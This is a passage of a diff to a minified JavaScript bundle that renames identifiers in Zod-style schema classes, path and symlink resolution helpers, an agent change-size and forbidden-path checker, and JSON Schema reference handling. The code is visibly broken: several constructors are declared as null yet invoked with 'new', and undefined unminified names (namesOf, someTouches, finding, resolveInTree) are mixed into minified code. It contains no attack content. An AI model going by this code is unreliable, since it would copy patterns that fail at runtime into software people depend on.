 t._zod.processJSONSchema=(n,s,r)=>Do(t,n,s,r),t.unwrap=()=>t._zod.def.innerType});function Io(t){return new To({type:"op\
-tional",innerType:t})}const rB=N("ZodExactOptional",(t,e)=>{qb.init(t,e),Ke.init(t,e),t._zod.processJSONSchema=(n,s,r)=>Do(
-t,n,s,r),t.unwrap=()=>t._zod.def.innerType});function Dk(t){return new rB({type:"optional",innerType:t})}const xk=N("Zod\
-Nullable",(t,e)=>{Vb.init(t,e),Ke.init(t,e),t._zod.processJSONSchema=(n,s,r)=>dd(t,n,s,r),t.unwrap=()=>t._zod.def.innerType});
-function $o(t){return new xk({type:"nullable",innerType:t})}function XH(t){return Io($o(t))}const Ok=N("ZodDefault",(t,e)=>{
-Yb.init(t,e),Ke.init(t,e),t._zod.processJSONSchema=(n,s,r)=>hd(t,n,s,r),t.unwrap=()=>t._zod.def.innerType,t.removeDefault=
-t.unwrap});function Ak(t,e){return new Ok({type:"default",innerType:t,get defaultValue(){return typeof e=="function"?e():
-ju(e)}})}const Sk=N("ZodPrefault",(t,e)=>{Xb.init(t,e),Ke.init(t,e),t._zod.processJSONSchema=(n,s,r)=>pd(t,n,s,r),t.unwrap=
-()=>t._zod.def.innerType});function Tk(t,e){return new Sk({type:"prefault",innerType:t,get defaultValue(){return typeof e==
-"function"?e():ju(e)}})}const iB=N("ZodNonOptional",(t,e)=>{Qb.init(t,e),Ke.init(t,e),t._zod.processJSONSchema=(n,s,r)=>Bd(
-t,n,s,r),t.unwrap=()=>t._zod.def.innerType});function Ik(t,e){return new iB({type:"nonoptional",innerType:t,...Be(e)})}const $k=null;
-function QH(t){return new $k({type:"success",innerType:t})}const Rk=N("ZodCatch",(t,e)=>{e_.init(t,e),Ke.init(t,e),t._zod.
-processJSONSchema=(n,s,r)=>md(t,n,s,r),t.unwrap=()=>t._zod.def.innerType,t.removeCatch=t.unwrap});function Nk(t,e){return new Rk(
-{type:"catch",innerType:t,catchValue:typeof e=="function"?e:Wy(e)})}const Fk=null;function e2(t){return core._nan(Fk,t)}
-const Lk=N("ZodPipe",(t,e)=>{t_.init(t,e),Ke.init(t,e),t._zod.processJSONSchema=(n,s,r)=>gd(t,n,s,r),t.in=e.in,t.out=e.out});
-function oB(t,e){return new Lk({type:"pipe",in:t,out:e})}const Ro=null;function t2(t,e,n){return new Ro({type:"pipe",in:t,
+tional",innerType:t})}const eB=N("ZodExactOptional",(t,e)=>{Kb.init(t,e),Ke.init(t,e),t._zod.processJSONSchema=(n,s,r)=>Do(
+t,n,s,r),t.unwrap=()=>t._zod.def.innerType});function kk(t){return new eB({type:"optional",innerType:t})}const vk=N("Zod\
+Nullable",(t,e)=>{qb.init(t,e),Ke.init(t,e),t._zod.processJSONSchema=(n,s,r)=>ad(t,n,s,r),t.unwrap=()=>t._zod.def.innerType});
+function $o(t){return new vk({type:"nullable",innerType:t})}function XH(t){return Io($o(t))}const Dk=N("ZodDefault",(t,e)=>{
+Wb.init(t,e),Ke.init(t,e),t._zod.processJSONSchema=(n,s,r)=>ld(t,n,s,r),t.unwrap=()=>t._zod.def.innerType,t.removeDefault=
+t.unwrap});function xk(t,e){return new Dk({type:"default",innerType:t,get defaultValue(){return typeof e=="function"?e():
+Nu(e)}})}const Ok=N("ZodPrefault",(t,e)=>{Vb.init(t,e),Ke.init(t,e),t._zod.processJSONSchema=(n,s,r)=>dd(t,n,s,r),t.unwrap=
+()=>t._zod.def.innerType});function Ak(t,e){return new Ok({type:"prefault",innerType:t,get defaultValue(){return typeof e==
+"function"?e():Nu(e)}})}const tB=N("ZodNonOptional",(t,e)=>{Yb.init(t,e),Ke.init(t,e),t._zod.processJSONSchema=(n,s,r)=>cd(
+t,n,s,r),t.unwrap=()=>t._zod.def.innerType});function Sk(t,e){return new tB({type:"nonoptional",innerType:t,...Be(e)})}const Tk=null;
+function QH(t){return new Tk({type:"success",innerType:t})}const Ik=N("ZodCatch",(t,e)=>{Xb.init(t,e),Ke.init(t,e),t._zod.
+processJSONSchema=(n,s,r)=>Bd(t,n,s,r),t.unwrap=()=>t._zod.def.innerType,t.removeCatch=t.unwrap});function $k(t,e){return new Ik(
+{type:"catch",innerType:t,catchValue:typeof e=="function"?e:Zy(e)})}const Rk=null;function e2(t){return core._nan(Rk,t)}
+const Nk=N("ZodPipe",(t,e)=>{Qb.init(t,e),Ke.init(t,e),t._zod.processJSONSchema=(n,s,r)=>fd(t,n,s,r),t.in=e.in,t.out=e.out});
+function nB(t,e){return new Nk({type:"pipe",in:t,out:e})}const Ro=null;function t2(t,e,n){return new Ro({type:"pipe",in:t,
 out:e,transform:n.decode,reverseTransform:n.encode})}function n2(t){const e=t._zod.def;return new Ro({type:"pipe",in:e.out,
-out:e.in,transform:e.reverseTransform,reverseTransform:e.transform})}const Pk=null,jk=N("ZodReadonly",(t,e)=>{n_.init(t,
-e),Ke.init(t,e),t._zod.processJSONSchema=(n,s,r)=>Cd(t,n,s,r),t.unwrap=()=>t._zod.def.innerType});function Mk(t){return new jk(
-{type:"readonly",innerType:t})}const Gk=null;function s2(t,e){return new Gk({type:"template_literal",parts:t,...util.normalizeParams(
-e)})}const Hk=null;function zk(t){return new Hk({type:"lazy",getter:t})}const Uk=null;function r2(t){return new Uk({type:"\
-promise",innerType:t})}const Jk=null;function i2(t){return new Jk({type:"function",input:Array.isArray(t?.input)?wk(t?.input):
-t?.input??Ae(Nn()),output:t?.output??Nn()})}const No=N("ZodCustom",(t,e)=>{r_.init(t,e),Ke.init(t,e),t._zod.processJSONSchema=
-(n,s,r)=>sd(t,n,s,r)});function o2(t){const e=new core.$ZodCheck({check:"custom"});return e._zod.check=t,e}function a2(t,e){
-return core._custom(No,t??(()=>!0),e)}function Zk(t,e={}){return Y_(No,t,e)}function Kk(t,e){return X_(t,e)}const c2=eE,
-u2=tE,Wk=N("ZodInstanceOf",(t,e)=>{No.init(t,e)},{properties(t,e){return this.check(U_(t,e))}});function l2(t,e={}){const n=new Wk(
+out:e.in,transform:e.reverseTransform,reverseTransform:e.transform})}const Fk=null,Lk=N("ZodReadonly",(t,e)=>{e_.init(t,
+e),Ke.init(t,e),t._zod.processJSONSchema=(n,s,r)=>hd(t,n,s,r),t.unwrap=()=>t._zod.def.innerType});function Pk(t){return new Lk(
+{type:"readonly",innerType:t})}const jk=null;function s2(t,e){return new jk({type:"template_literal",parts:t,...util.normalizeParams(
+e)})}const Mk=null;function Gk(t){return new Mk({type:"lazy",getter:t})}const Hk=null;function r2(t){return new Hk({type:"\
+promise",innerType:t})}const zk=null;function i2(t){return new zk({type:"function",input:Array.isArray(t?.input)?Ck(t?.input):
+t?.input??Ae(Nn()),output:t?.output??Nn()})}const No=N("ZodCustom",(t,e)=>{n_.init(t,e),Ke.init(t,e),t._zod.processJSONSchema=
+(n,s,r)=>Ql(t,n,s,r)});function o2(t){const e=new core.$ZodCheck({check:"custom"});return e._zod.check=t,e}function a2(t,e){
+return core._custom(No,t??(()=>!0),e)}function Uk(t,e={}){return W_(No,t,e)}function Jk(t,e){return V_(t,e)}const c2=X_,
+u2=Q_,Zk=N("ZodInstanceOf",(t,e)=>{No.init(t,e)},{properties(t,e){return this.check(H_(t,e))}});function l2(t,e={}){const n=new Zk(
 {type:"custom",check:"custom",fn:s=>s instanceof t,abort:!0,...util.normalizeParams(e)});return n._zod.bag.Class=t,n._zod.
 check=s=>{s.value instanceof t||s.issues.push({code:"invalid_type",expected:t.name,input:s.value,inst:n,path:[...n._zod.
-def.path??[]]})},n}const d2=(...t)=>core._stringbool({Codec:Ro,Boolean:Qd,String:$d},...t);function B2(t){const e=zk(()=>nB(
-[me(t),Ps(),on(),ak(),Ae(e),kn(me(),e)]));return e}function f2(t,e){return new Pk({type:"pipe",in:sB(t),out:e})}const qk=/[\p{Cf}\p{Default_Ignorable_Code_Point}]/gu;
-function Vk(t,e){const s=t.replace(qk,"").replace(/:.*$/s,"").replace(/[. ]+$/,"").normalize("NFC").toUpperCase().toLowerCase();
-return s===e||Xk(s,e)}const Yk=/^[\w./-]*$/;function aB(t,e){return!Yk.test(t)||t.toLowerCase().includes(e)}function Xk(t,e){
-const[,n]=/^(.+)~[1-9]\d{0,5}$/.exec(t)??[];return n!==void 0&&n===e.replaceAll(".","").slice(0,6)}const cB=40,Fo={path:"",
-kind:"directory",tracked:!0},uB=/^[A-Za-z]:/,lB=/^[\w-][\w.-]*(?:\/[\w-][\w.-]*)*$/;function xe(t){if(lB.test(t))return t;
+def.path??[]]})},n}const d2=(...t)=>core._stringbool({Codec:Ro,Boolean:Wd,String:Ad},...t);function B2(t){const e=Gk(()=>Xd(
+[me(t),Ps(),an(),ik(),Ae(e),kn(me(),e)]));return e}function f2(t,e){return new Fk({type:"pipe",in:Qd(t),out:e})}const Kk=/[\p{Cf}\p{Default_Ignorable_Code_Point}]/gu;
+function qk(t,e){const s=t.replace(Kk,"").replace(/:.*$/s,"").replace(/[. ]+$/,"").normalize("NFC").toUpperCase().toLowerCase();
+return s===e||Vk(s,e)}const Wk=/^[\w./-]*$/;function sB(t,e){return!Wk.test(t)||t.toLowerCase().includes(e)}function Vk(t,e){
+const[,n]=/^(.+)~[1-9]\d{0,5}$/.exec(t)??[];return n!==void 0&&n===e.replaceAll(".","").slice(0,6)}const rB=40,Fo={path:"",
+kind:"directory",tracked:!0},iB=/^[A-Za-z]:/,oB=/^[\w-][\w.-]*(?:\/[\w-][\w.-]*)*$/;function xe(t){if(oB.test(t))return t;
 const e=t.replaceAll("\\","/");if(e.startsWith("/")||e.includes("\0"))return;const n=[];for(const s of e.split("/"))if(!(s===
-""||s===".")){if(s!=="..")n.push(s);else if(n.pop()===void 0)return}return uB.test(e)||uB.test(n[0]??"")?void 0:n.join("\
+""||s===".")){if(s!=="..")n.push(s);else if(n.pop()===void 0)return}return iB.test(e)||iB.test(n[0]??"")?void 0:n.join("\
 /")}function Ve(t,e){if(e.startsWith("/")||e.includes("\0"))return{kind:"outside",path:e};const n=e.split("/").reverse(),
 s=[];let r=Fo,i=0;for(let o=n.pop();o!==void 0;o=n.pop()){if(o===""||o===".")continue;if(r.kind!=="directory")return{kind:"\
-missing",path:[...s,o].join("/")};if(o===".."){if(s.pop()===void 0)return{kind:"outside",path:e};r=Qk(s);continue}const a=[
+missing",path:[...s,o].join("/")};if(o===".."){if(s.pop()===void 0)return{kind:"outside",path:e};r=Yk(s);continue}const a=[
 ...s,o].join("/"),c=t.stat(a);if(c===void 0)return{kind:"missing",path:a};if(c.kind!=="symlink"){s.push(o),r=c;continue}
-if(i+=1,i>cB)return{kind:"loop",path:e};const u=t.readlink(a);if(u===void 0||u===""||u.length>dB)return{kind:"missing",path:a};
+if(i+=1,i>rB)return{kind:"loop",path:e};const u=t.readlink(a);if(u===void 0||u===""||u.length>aB)return{kind:"missing",path:a};
 if(u.startsWith("/")||u.includes("\0"))return{kind:"outside",path:a};n.push(...u.split("/").reverse())}return{kind:"insi\
-de",path:r.path,entry:r}}function Qk(t){return t.length===0?Fo:{...Fo,path:t.join("/")}}function vt(t,e,{ignoreCase:n=!1}={}){
-const s=xe(t),r=xe(e);return s===void 0||r===void 0?!1:fB(r,s,n)}function Gs(t,e,{at:n,tree:s}){if(BB(t))return;const i=(Lr(
+de",path:r.path,entry:r}}function Yk(t){return t.length===0?Fo:{...Fo,path:t.join("/")}}function vt(t,e,{ignoreCase:n=!1}={}){
+const s=xe(t),r=xe(e);return s===void 0||r===void 0?!1:uB(r,s,n)}function Gs(t,e,{at:n,tree:s}){if(cB(t))return;const i=(Lr(
 t)??[...Lr(e)??[],...Po(t)]).reverse(),o=Lo((Lr(n)??[]).filter(u=>u!=="")),a=[];let c=0;for(let u=i.pop();u!==void 0;u=i.
-pop()){if(u===""||u===".")continue;if(u===".."){a.pop();continue}a.push(u);const l=s&&ev(s,o,Lo(a));if(l===void 0)continue;
-if(c+=1,c>cB||BB(l))return;const d=Lr(l);d===void 0?a.pop():a.length=0,i.push(...(d??Po(l)).reverse())}return Lo(a)}function Fr(t,e,{
-ignoreCase:n=!1}={}){return fB(e.slice(1),t.slice(1),n)}function ev(t,e,n){if(Fr(n,e))return t.readlink(e==="/"?n.slice(
+pop()){if(u===""||u===".")continue;if(u===".."){a.pop();continue}a.push(u);const l=s&&Xk(s,o,Lo(a));if(l===void 0)continue;
+if(c+=1,c>rB||cB(l))return;const d=Lr(l);d===void 0?a.pop():a.length=0,i.push(...(d??Po(l)).reverse())}return Lo(a)}function Fr(t,e,{
+ignoreCase:n=!1}={}){return uB(e.slice(1),t.slice(1),n)}function Xk(t,e,n){if(Fr(n,e))return t.readlink(e==="/"?n.slice(
 1):n.slice(e.length+1))}function Lo(t){return`/${t.join("/")}`}function Po(t){return t.replaceAll("\\","/").split("/")}function Lr(t){
-return/^(?:[\\/]|[A-Za-z]:[\\/])/.test(t)?Po(t):void 0}const dB=4096;function BB(t){return t.length>dB?!0:t.includes("\0")||
-/^(?:\\\\|[A-Za-z]:(?![\\/]))/.test(t)}function fB(t,e,n){if(t==="")return!0;const[s,r]=n?[Pr(e),Pr(t)]:[e,t];return s===
-r||s.startsWith(`${r}/`)}function Pr(t){return lB.test(t)?t.toLowerCase():t.normalize("NFC").toUpperCase().toLowerCase()}
-function tv(t,e){const n=xe(t);if(n!==void 0)return`/${Pr(n)}/`.includes(`/${Pr(e)}/`);const s=t.split("/");return s.some(
-(r,i)=>vt(s.slice(i).join("/"),e,{ignoreCase:!0}))}function nv(t){return/[*?]|^!|\{[^{}]*,[^{}]*\}|^["'`].*["'`]$/.test(
-t)||t.trim()!==t}const sv=["assets/gep/events.jsonl",".evolver/gep/events.jsonl"],h2=null;function rv(t){return aB(t,"ev\
-ents.jsonl")&&sv.some(e=>tv(t,e))}const jr=10,hB=13,iv=new Set([32,9,jr,hB]);function p2(t,e){const n=jo(t),s=jo(e);let r=0;
-for(let i=n.next().value;i;){const o=n.next().value,a=s.next().value;if(!a||!av(i.bytes,a.bytes,o===void 0))return{kind:"\
+return/^(?:[\\/]|[A-Za-z]:[\\/])/.test(t)?Po(t):void 0}const aB=4096;function cB(t){return t.length>aB?!0:t.includes("\0")||
+/^(?:\\\\|[A-Za-z]:(?![\\/]))/.test(t)}function uB(t,e,n){if(t==="")return!0;const[s,r]=n?[Pr(e),Pr(t)]:[e,t];return s===
+r||s.startsWith(`${r}/`)}function Pr(t){return oB.test(t)?t.toLowerCase():t.normalize("NFC").toUpperCase().toLowerCase()}
+function Qk(t,e){const n=xe(t);if(n!==void 0)return`/${Pr(n)}/`.includes(`/${Pr(e)}/`);const s=t.split("/");return s.some(
+(r,i)=>vt(s.slice(i).join("/"),e,{ignoreCase:!0}))}function ev(t){return/[*?]|^!|\{[^{}]*,[^{}]*\}|^["'`].*["'`]$/.test(
+t)||t.trim()!==t}const tv=["assets/gep/events.jsonl",".evolver/gep/events.jsonl"],h2=null;function nv(t){return sB(t,"ev\
+ents.jsonl")&&tv.some(e=>Qk(t,e))}const jr=10,lB=13,sv=new Set([32,9,jr,lB]);function p2(t,e){const n=jo(t),s=jo(e);let r=0;
+for(let i=n.next().value;i;){const o=n.next().value,a=s.next().value;if(!a||!iv(i.bytes,a.bytes,o===void 0))return{kind:"\
 rewritten",line:i.line};r=a.end,i=o}return{kind:"appended",from:r}}function m2(t){return jo(t).next().value!==void 0}function*jo(t){
 let e=0;for(let n=0;n<t.length;){const s=t.indexOf(jr,n),r=s<0?t.length:s,i=t.subarray(n,r);n=Math.min(r+1,t.length),e+=
-1,ov(i)||(yield{bytes:i,line:e,end:n})}}function ov(t){for(const e of t)if(!iv.has(e))return!1;return!0}function av(t,e,n){
-return n?pB(t).equals(pB(e)):t.equals(e)}function pB(t){return t.at(-1)===hB?t.subarray(0,-1):t}function g2(t,e){let n=0;
+1,rv(i)||(yield{bytes:i,line:e,end:n})}}function rv(t){for(const e of t)if(!sv.has(e))return!1;return!0}function iv(t,e,n){
+return n?dB(t).equals(dB(e)):t.equals(e)}function dB(t){return t.at(-1)===lB?t.subarray(0,-1):t}function g2(t,e){let n=0;
 for(let s=t.indexOf(jr);s>=0&&s<e;s=t.indexOf(jr,s+1))n+=1;return n}const Mo=20;function C2(t,e){const n={files:0,lines:0,
 exempt_files:0,exempt_lines:0};for(const s of t.files){const{path:r,oldPath:i}=s,o=i===void 0?1:2,a=Number(e.has(r))+Number(
-i!==void 0&&e.has(i));n.files+=o-a,n.exempt_files+=a,a===o?n.exempt_lines+=gB(s):n.lines+=gB(s)}return n}function y2({files:t,
-lines:e,exempt_files:n,exempt_lines:s},r){return r==="reference"?{files:t,lines:e}:{files:t+n,lines:e+s}}function cv(t,e,n,s){
-const r=mB(e);return n.files>s.files||n.lines>s.lines?"hard_cap_breach":t>2*r?"critical_overrun":t>r?"exceeded":t>.8*r?"\
-approaching_limit":"within_limit"}function uv(t,{files:e,lines:n},s,r){const i=mB(s);switch(t){case"hard_cap_breach":return`\
+i!==void 0&&e.has(i));n.files+=o-a,n.exempt_files+=a,a===o?n.exempt_lines+=fB(s):n.lines+=fB(s)}return n}function y2({files:t,
+lines:e,exempt_files:n,exempt_lines:s},r){return r==="reference"?{files:t,lines:e}:{files:t+n,lines:e+s}}function ov(t,e,n,s){
+const r=BB(e);return n.files>s.files||n.lines>s.lines?"hard_cap_breach":t>2*r?"critical_overrun":t>r?"exceeded":t>.8*r?"\
+approaching_limit":"within_limit"}function av(t,{files:e,lines:n},s,r){const i=BB(s);switch(t){case"hard_cap_breach":return`\
 HARD CAP BREACH: ${e} files / ${n} lines exceeds system limit (${r.files} files / ${r.lines} lines)`;case"critical_overr\
 un":return`CRITICAL OVERRUN: ${e} files > ${2*i} (2x limit of ${i}). Agent likely performed bulk/unintended operation.`;case"\
 exceeded":return`max_files exceeded: ${e} > ${i}`;case"approaching_limit":return`approaching limit: ${e} / ${i} files (${Math.
-round(e/i*100)}%)`;case"within_limit":return`${e} / ${i} files`}}function mB(t){return typeof t=="number"&&t>0?t:Mo}const lv=/^[^/]+(?:\/[^/]+(?=\/))?(?=\/)/;
-function w2(t,e){const n=new Map;for(const{path:s,lines:r,exempt:i}of t){const o=lv.exec(s)?.[0]??".",a=n.get(o)??{path:o,
+round(e/i*100)}%)`;case"within_limit":return`${e} / ${i} files`}}function BB(t){return typeof t=="number"&&t>0?t:Mo}const cv=/^[^/]+(?:\/[^/]+(?=\/))?(?=\/)/;
+function w2(t,e){const n=new Map;for(const{path:s,lines:r,exempt:i}of t){const o=cv.exec(s)?.[0]??".",a=n.get(o)??{path:o,
 files:0,lines:0};a.files+=1,a.lines+=r,i&&(a.exempt_files=(a.exempt_files??0)+1,a.exempt_lines=(a.exempt_lines??0)+r),n.
 set(o,a)}return[...n.values()].sort((s,r)=>r.files-s.files||r.lines-s.lines||(s.path<r.path?-1:1)).slice(0,e)}function b2(t){
-return t.oldPath===void 0?[t.path]:[t.path,t.oldPath]}function gB(t){return t.added+t.deleted}var Oe=Te(561);function _2(t,e){
-return t.files.flatMap(n=>namesOf(n).map(s=>({path:s,via:s===n.path&&n.newMode===dv?fv(e,s):""})))}function E2(t,e){const n=new Map;
-return s=>{const r=n.get(s)??Bv(t,hv(e,s));return n.set(s,r),r}}function k2(t){return{location:{path:t,line:1,column:1}}}
-const dv="120000";function Bv(t,e){const n=s=>e.some(r=>isWithin(s,r));return t.flatMap(s=>n(s.path)?[{path:s.path,via:""}]:
-s.via!==""&&n(s.via)?[s]:[])}function fv(t,e){const n=resolveInTree(t,e);return n.kind==="inside"||n.kind==="missing"?n.
-path:""}function hv(t,e){const n=resolveInTree(t,e);return n.kind==="inside"?[e,n.path]:[e]}const Go=3;function v2(t){const e=t.
-length-Go;return t.slice(0,Go).map((n,s)=>e>0&&s===Go-1?{...n,more:e}:n)}const CB=[".git","node_modules"];function Ho(t){
-const e=CB.filter(s=>aB(t,s));if(e.length===0)return;const n=(xe(t)??t).split("/");return e.find(s=>n.some(r=>Vk(r,s)))}
-function D2({touched:t,touchesOf:e,policy:n}){const s=t.flatMap(pv),r=CB.flatMap(o=>someTouches(s.flatMap(({touch:a,...c})=>c.
+return t.oldPath===void 0?[t.path]:[t.path,t.oldPath]}function fB(t){return t.added+t.deleted}var Oe=Te(561);function _2(t,e){
+return t.files.flatMap(n=>namesOf(n).map(s=>({path:s,via:s===n.path&&n.newMode===uv?dv(e,s):""})))}function E2(t,e){const n=new Map;
+return s=>{const r=n.get(s)??lv(t,Bv(e,s));return n.set(s,r),r}}function k2(t){return{location:{path:t,line:1,column:1}}}
+const uv="120000";function lv(t,e){const n=s=>e.some(r=>isWithin(s,r));return t.flatMap(s=>n(s.path)?[{path:s.path,via:""}]:
+s.via!==""&&n(s.via)?[s]:[])}function dv(t,e){const n=resolveInTree(t,e);return n.kind==="inside"||n.kind==="missing"?n.
+path:""}function Bv(t,e){const n=resolveInTree(t,e);return n.kind==="inside"?[e,n.path]:[e]}const Go=3;function v2(t){const e=t.
+length-Go;return t.slice(0,Go).map((n,s)=>e>0&&s===Go-1?{...n,more:e}:n)}const hB=[".git","node_modules"];function Ho(t){
+const e=hB.filter(s=>sB(t,s));if(e.length===0)return;const n=(xe(t)??t).split("/");return e.find(s=>n.some(r=>qk(r,s)))}
+function D2({touched:t,touchesOf:e,policy:n}){const s=t.flatMap(fv),r=hB.flatMap(o=>someTouches(s.flatMap(({touch:a,...c})=>c.
 directory===o?a:[])).map(a=>finding("forbidden-path",{entry:o,by:"nothing may touch",...a},atFile(a.path)))),i=n.blast_radius.
 forbidden_paths.flatMap(o=>someTouches(e(o)).map(a=>finding("forbidden-path",{entry:o,by:"the policy forbids",...a},atFile(
-a.path))));return[...r,...i]}function pv({path:t,via:e}){const n=Ho(t),s=n??Ho(e);return s===void 0?[]:[{directory:s,touch:{
-path:t,via:n===void 0?e:""}}]}function x2(t){return`${t.startsWith("E")?"an":"a"} ${t}`}function an(t){return typeof t==
+a.path))));return[...r,...i]}function fv({path:t,via:e}){const n=Ho(t),s=n??Ho(e);return s===void 0?[]:[{directory:s,touch:{
+path:t,via:n===void 0?e:""}}]}function x2(t){return`${t.startsWith("E")?"an":"a"} ${t}`}function cn(t){return typeof t==
 "object"&&t!==null&&!Array.isArray(t)}function O2(t){return t.map(e=>`/${String(e).replaceAll("~","~0").replaceAll("/","\
-~1")}`).join("")}function mv({type:t,id:e}){return{type:t,id:e}}function zo(t,e=[]){return{location:t.locate(e),subject:mv(
+~1")}`).join("")}function hv({type:t,id:e}){return{type:t,id:e}}function zo(t,e=[]){return{location:t.locate(e),subject:hv(
 t)}}function A2(t){return(e,...n)=>isChange(e)?t(e,...n):[]}async function S2(t,e,...n){const s=Object.entries(t).map(async([
-r,i])=>{try{return await i(e,...n)}catch(o){return[gv(r,o,n)]}});return(await Promise.all(s)).flat()}function gv(t,e,[n]){
-return n===void 0?notJudged(`the change; the check "${t}" failed`,e):Cv(n.asset,e,`; the check "${t}" failed`)}function Cv(t,e,n=""){
-const s=`the ${t.type} \`${t.id}\`${n}`;return notJudged(s,e,yv(t))}function yv(t){try{return placeOf(t)}catch{return{location:{
-path:t.path,line:1,column:1},subject:subjectOf(t)}}}function wv(t,{path:e,detail:n},s){return(0,Oe.gk)("claim-not-checke\
-d",{claim:t,why:`${n} of the log \`${e}\``},s)}function Gt(t){return encodeURI(bv(t)).replace(/#/g,"%23")}function bv(t){
-return t.replace(/~/g,"~0").replace(/\//g,"~1")}const _v=/^[A-Za-z0-9._~!$&'()*+,;=:@/?-]$/,Ev=/^%[0-9A-Fa-f]{2}$/,kv=/^[A-Za-z0-9._~-]$/;
-function vv(t){let e="";for(let n=0;n<t.length;){const s=t[n],r=t.slice(n,n+3);if(s==="%"&&Ev.test(r)){const o=String.fromCharCode(
-parseInt(r.slice(1),16));e+=kv.test(o)?o:r.toUpperCase(),n+=3;continue}const i=String.fromCodePoint(t.codePointAt(n));e+=
-_v.test(i)?i:encodeURIComponent(i),n+=i.length}return e}function Mr(t,e){const n=new URL(t,e.href);return n.hash=n.hash?
-vv(n.hash.slice(1)):"",n}const T2={additionalItems:!0,unevaluatedItems:!0,items:!0,contains:!0,additionalProperties:!0,unevaluatedProperties:!0,
-propertyNames:!0,not:!0,if:!0,then:!0,else:!0},Dv={prefixItems:!0,items:!0,allOf:!0,anyOf:!0,oneOf:!0},xv={$defs:!0,definitions:!0,
-properties:!0,patternProperties:!0,dependentSchemas:!0},Ov={id:!0,$id:!0,$ref:!0,$schema:!0,$anchor:!0,$vocabulary:!0,$comment:!0,
+r,i])=>{try{return await i(e,...n)}catch(o){return[pv(r,o,n)]}});return(await Promise.all(s)).flat()}function pv(t,e,[n]){
+return n===void 0?notJudged(`the change; the check "${t}" failed`,e):mv(n.asset,e,`; the check "${t}" failed`)}function mv(t,e,n=""){
+const s=`the ${t.type} \`${t.id}\`${n}`;return notJudged(s,e,gv(t))}function gv(t){try{return placeOf(t)}catch{return{location:{
+path:t.path,line:1,column:1},subject:subjectOf(t)}}}function Cv(t,{path:e,detail:n},s){return(0,Oe.gk)("claim-not-checke\
+d",{claim:t,why:`${n} of the log \`${e}\``},s)}function Gt(t){return encodeURI(yv(t)).replace(/#/g,"%23")}function yv(t){
+return t.replace(/~/g,"~0").replace(/\//g,"~1")}const wv=/^[A-Za-z0-9._~!$&'()*+,;=:@/?-]$/,bv=/^%[0-9A-Fa-f]{2}$/,_v=/^[A-Za-z0-9._~-]$/;
+function Ev(t){let e="";for(let n=0;n<t.length;){const s=t[n],r=t.slice(n,n+3);if(s==="%"&&bv.test(r)){const o=String.fromCharCode(
+parseInt(r.slice(1),16));e+=_v.test(o)?o:r.toUpperCase(),n+=3;continue}const i=String.fromCodePoint(t.codePointAt(n));e+=
+wv.test(i)?i:encodeURIComponent(i),n+=i.length}return e}function Mr(t,e){const n=new URL(t,e.href);return n.hash=n.hash?
+Ev(n.hash.slice(1)):"",n}const T2={additionalItems:!0,unevaluatedItems:!0,items:!0,contains:!0,additionalProperties:!0,unevaluatedProperties:!0,
+propertyNames:!0,not:!0,if:!0,then:!0,else:!0},kv={prefixItems:!0,items:!0,allOf:!0,anyOf:!0,oneOf:!0},vv={$defs:!0,definitions:!0,
+properties:!0,patternProperties:!0,dependentSchemas:!0},Dv={id:!0,$id:!0,$ref:!0,$schema:!0,$anchor:!0,$vocabulary:!0,$comment:!0,
 default:!0,enum:!0,const:!0,required:!0,dependentRequired:!0,type:!0,maximum:!0,minimum:!0,exclusiveMaximum:!0,exclusiveMinimum:!0,
 multipleOf:!0,maxLength:!0,minLength:!0,pattern:!0,format:!0,maxItems:!0,minItems:!0,uniqueItems:!0,maxProperties:!0,minProperties:!0};
-let Av=typeof self<"u"&&self.location&&self.location.origin!=="null"?new URL(self.location.origin+self.location.pathname+
-location.search):new URL("https://github.com/cfworker");function Fn(t,e=Object.create(null),n=Av,s=""){if(t&&typeof t=="\
+let xv=typeof self<"u"&&self.location&&self.location.origin!=="null"?new URL(self.location.origin+self.location.pathname+
+location.search):new URL("https://github.com/cfworker");function Fn(t,e=Object.create(null),n=xv,s=""){if(t&&typeof t=="\
 object"&&!Array.isArray(t)){const i=t.$id||t.id;if(i){const o=Mr(i,n);o.hash.length>1?e[o.href]=t:(o.hash="",s===""?n=o:
 Fn(t,e,n))}}else if(t!==!0&&t!==!1)return e;const r=n.href+(s?"#"+s:"");if(e[r]!==void 0&&e[r]!==t)throw new Error(`Dupl\
 icate schema URI "${r}".`);if(e[r]=t,t===!0||t===!1)return e;if(t.__absolute_uri__===void 0&&Object.defineProperty(t,"__\
 absolute_uri__",{enumerable:!1,value:r}),t.$ref&&t.__absolute_ref__===void 0){const i=Mr(t.$ref,n);Object.defineProperty(
 t,"__absolute_ref__",{enumerable:!1,value:i.href})}if(t.$recursiveRef&&t.__absolute_recursive_ref__===void 0){const i=Mr(
 t.$recursiveRef,n);Object.defineProperty(t,"__absolute_recursive_ref__",{enumerable:!1,value:i.href})}if(t.$anchor){const i=Mr(
-"#"+t.$anchor,n);e[i.href]=t}for(let i in t){if(Ov[i])continue;const o=`${s}/${Gt(i)}`,a=t[i];if(Array.isArray(a)){if(Dv[i]){
-const c=a.length;for(let u=0;u<c;u++)Fn(a[u],e,n,`${o}/${u}`)}}else if(xv[i])for(let c in a)Fn(a[c],e,n,`${o}/${Gt(c)}`);else
+"#"+t.$anchor,n);e[i.href]=t}for(let i in t){if(Dv[i])continue;const o=`${s}/${Gt(i)}`,a=t[i];if(Array.isArray(a)){if(kv[i]){
+const c=a.length;for(let u=0;u<c;u++)Fn(a[u],e,n,`${o}/${u}`)}}else if(vv[i])for(let c in a)Fn(a[c],e,n,`${o}/${Gt(c)}`);else
 Fn(a,e,n,o)}return e}function Hs(t,e){const n=typeof t;if(n!==typeof e)return!1;const s=Array.isArray(t),r=Array.isArray(
 e);if(s!==r)return!1;if(s){const i=t.length;if(i!==e.length)return!1;for(let o=0;o<i;o++)if(!Hs(t[o],e[o]))return!1;return!0}
 if(n==="object"){if(!t||!e)return t===e;const i=Object.keys(t),o=Object.keys(e);if(i.length!==o.length)return!1;for(const c of i)
-if(!Object.prototype.hasOwnProperty.call(e,c)||!Hs(t[c],e[c]))return!1;return!0}return t===e}const Sv=/^(\d\d\d\d)-(\d\d)-(\d\d)$/,
-Tv=[0,31,28,31,30,31,30,31,31,30,31,30,31],Iv=/^(\d\d):(\d\d):(\d\d)(\.\d+)?(z|([+-])(\d\d):(\d\d))?$/i,yB=/^(?=.{1,253}$)[a-z0-9](?:[a-z0-9-]{0,61}[a-z0-9])?(?:\.[a-z0-9](?:[-0-9a-z]{0,61}[0-9a-z])?)*$/i,
